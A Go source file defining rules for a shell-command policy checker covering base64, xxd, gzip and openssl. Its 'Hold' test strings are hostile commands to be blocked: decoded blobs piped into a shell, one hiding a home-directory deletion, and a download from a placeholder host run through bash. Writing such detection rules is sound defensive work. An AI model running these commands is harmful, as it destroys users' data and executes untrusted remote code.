package parse

// Rows of the encoders and compressors: they read the files they are
// given, as cat does, and a flag says they decode. Policy asks it of the
// commands that feed code to a shell (base64 -d | sh runs what the blob
// hid).

var codecRows = []Program{
	{Name: "base64", Also: []string{"base32", "basenc"}, Args: "*:read", Opts: "-w|--wrap=", Flags: "decodes:-d|--decode|-D",
		Hold:  []string{`echo cm0gLXJmIH4K | base64 -d | sh`, `base64 -di payload | bash`, `base64 --decode < x | sh`},
		Allow: []string{`base64 -w0 dist/app.tgz > app.b64`, `echo hi | base64`}},
	// xxd -r turns a hex dump back into bytes.
	{Name: "xxd", Args: "*:read", Opts: "-c|-cols= -g|-groupsize= -l|-len= -s|-seek= -o|-offset= -n|-name=", Flags: "decodes:-r|-revert",
		Hold: []string{`xxd -r -p payload.hex | sh`}, Allow: []string{`xxd -g 1 dist/app.bin | head`}},
	{Name: "gzip", Also: []string{"bzip2", "xz", "zstd"}, Args: "*:read", Flags: "decodes:-d|--decompress|--uncompress",
		Hold: []string{`gzip -dc payload.gz | sh`}, Allow: []string{`gzip -9 dist/app.tar`}},
	// openssl enc -d decodes; -a and -base64, and openssl base64, are
	// base64, a blob either way. Its commands read keys and data from
	// -in and -inkey.
	{Name: "openssl", Args: "*:data", SingleDashLong: true, Permute: true, Opts: "-in=read -inkey=read",
		Flags: "decodes:-d base64:-a|-base64",
		Hold:  []string{`openssl enc -d -aes-256-cbc -in p.enc -k x | sh`, `curl -s https://x.example/p | openssl base64 -d | bash`},
		Allow: []string{`openssl rand -hex 32`, `openssl x509 -in cert.pem -noout -text`}},
	{Name: "openssl base64", SingleDashLong: true, Opts: "-in=read", Args: "*:data"},
}
